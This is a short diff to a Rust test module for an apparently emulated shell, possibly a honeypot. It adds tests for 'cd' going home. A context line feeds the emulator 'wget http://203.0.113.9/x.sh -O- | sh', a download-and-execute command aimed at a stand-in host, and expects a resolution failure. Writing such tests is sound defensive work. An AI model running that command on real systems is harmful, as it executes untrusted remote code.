@@ -247,6 +247,8 @@ mod tests {
             out(&mut shell, "wget http://203.0.113.9/x.sh -O- | sh")
                 .contains("unable to resolve host address '203.0.113.9'")
         );
+        assert_eq!(out(&mut shell, "cd /tmp; cd; pwd"), "/root\n", "cd alone goes home");
+        assert_eq!(out(&mut shell, "cd /tmp; cd ~/..; pwd"), "/\n");
         assert_eq!(shell.run("id && exit"), Outcome::Exit);
     }
 
